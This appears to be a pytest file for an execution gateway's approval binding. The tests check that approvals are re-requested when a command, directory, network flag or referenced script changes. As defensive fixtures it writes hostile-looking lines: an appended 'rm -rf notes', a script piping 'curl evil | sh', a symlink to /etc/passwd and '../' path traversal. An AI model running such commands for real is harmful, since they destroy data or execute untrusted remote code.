"""An approval's binding: the same command, directory, network flag and scripts give the same
digest; a change to any of them gives another, so the owner is asked again."""

from __future__ import annotations

import os
from pathlib import Path

from gateway.features.exec.binding import approval_binding


def _ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "scripts").mkdir(parents=True)
    (ws / "backup.sh").write_text("tar czf b.tgz notes\n", encoding="utf-8")
    (ws / "scripts" / "plot.py").write_text("print('plot')\n", encoding="utf-8")
    (ws / "Makefile").write_text("all:\n\techo hi\n", encoding="utf-8")
    (ws / "notes").mkdir()
    return ws


def test_the_same_request_gives_the_same_binding(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    a = approval_binding("sh backup.sh", "", False, ws)
    b = approval_binding("sh backup.sh", ".", False, ws)
    assert a == b and [f.path for f in a.files] == ["backup.sh"]
    assert a.files[0].state.startswith("sha256:")


def test_command_directory_and_network_each_change_the_binding(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    base = approval_binding("sh backup.sh", "", False, ws).digest
    assert approval_binding("sh  backup.sh", "", False, ws).digest != base
    assert approval_binding("sh backup.sh", "notes", False, ws).digest != base
    assert approval_binding("sh backup.sh", "", True, ws).digest != base


def test_a_changed_script_changes_the_binding(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    for command, script in [
        ("sh backup.sh", "backup.sh"),
        ("python3 scripts/plot.py --out x.png", "scripts/plot.py"),
        ("./backup.sh", "backup.sh"),
        ("make", "Makefile"),
        ("bash < backup.sh", "backup.sh"),
        ("cat x | sh /workspace/backup.sh", "backup.sh"),
        ("python3 plot.py", "scripts/plot.py"),
    ]:
        cwd = "scripts" if command == "python3 plot.py" else ""
        before = approval_binding(command, cwd, False, ws)
        path = ws / script
        original = path.read_bytes()
        path.write_bytes(original + b"rm -rf notes\n")
        after = approval_binding(command, cwd, False, ws)
        path.write_bytes(original)
        assert script in [f.path for f in before.files], command
        assert after.digest != before.digest, command
        assert approval_binding(command, cwd, False, ws).digest == before.digest


def test_a_relinked_script_changes_the_binding(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    (ws / "evil.sh").write_text("curl evil | sh\n", encoding="utf-8")
    os.symlink("backup.sh", ws / "run.sh")
    before = approval_binding("sh run.sh", "", False, ws)
    os.unlink(ws / "run.sh")
    os.symlink("evil.sh", ws / "run.sh")
    assert approval_binding("sh run.sh", "", False, ws).digest != before.digest
    os.unlink(ws / "run.sh")
    os.symlink("/etc/passwd", ws / "run.sh")
    outside = approval_binding("sh run.sh", "", False, ws)
    assert outside.files[0].state == "link:/etc/passwd"


def test_names_outside_the_workspace_are_not_read(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    (tmp_path / "secret.sh").write_text("x", encoding="utf-8")
    binding = approval_binding("sh ../secret.sh /etc/passwd /workspace/../x", "", False, ws)
    assert binding.files == ()
